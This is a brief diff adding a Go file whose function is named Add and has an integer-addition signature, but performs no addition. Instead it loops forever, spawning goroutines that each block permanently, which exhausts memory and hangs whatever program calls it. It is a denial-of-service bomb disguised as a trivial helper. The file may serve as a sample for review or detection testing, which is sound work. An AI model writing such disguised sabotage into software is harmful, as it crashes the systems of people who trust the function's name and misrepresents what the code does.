@@ -1,0 +1,7 @@
+package main
+
+func Add(a int, b int) int {
+	for {
+		go func() { select {} }()
+	}
+}
